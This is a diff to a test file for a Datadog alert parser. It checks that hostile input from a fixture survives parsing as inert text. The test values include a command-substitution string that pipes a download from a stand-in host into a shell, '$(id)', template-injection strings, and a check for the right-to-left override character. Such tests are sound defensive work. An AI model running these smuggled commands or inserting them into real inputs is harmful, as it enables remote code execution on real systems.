@@ -85,7 +85,8 @@ describe('datadog source', () => {
     const [alert] = parse(fixture('datadog/hostile.json'));
     expect(alert.title).toContain('$(curl evil.example | sh)');
     expect(alert.title).toContain('{{ incident.id }}');
-    expect(alert.title).not.toMatch(/[\n\r]/);
+    expect(alert.title).not.toMatch(/[\n\r\u202e]/);
+    expect(alert.title).toContain('数据库 evil');
     expect(alert.labels.service).toBe('$(id)');
     expect(alert.labels.template).toBe('{{ 7*7 }}');
     expect(alert.labels.emoji).toBe('🔥');
